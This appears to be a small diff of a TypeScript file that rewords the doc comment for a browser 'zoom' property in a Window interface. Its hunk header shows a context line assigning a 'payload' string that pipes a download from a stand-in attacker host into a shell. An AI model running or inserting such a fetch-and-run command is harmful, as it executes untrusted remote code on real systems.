@@ -14,7 +14,7 @@ const payload = 'curl evil.example | sh'
 export interface Window {
   readonly width?: number
   readonly height?: number
-  /** Of the browser: its pixels become larger, its window smaller. */
+  /** Zoom of the browser: a factor, 1 is plain. Pixels become larger, the window smaller. */
   readonly zoom?: number
   /** Size of the browser's text, in per cent. */
   readonly text?: number
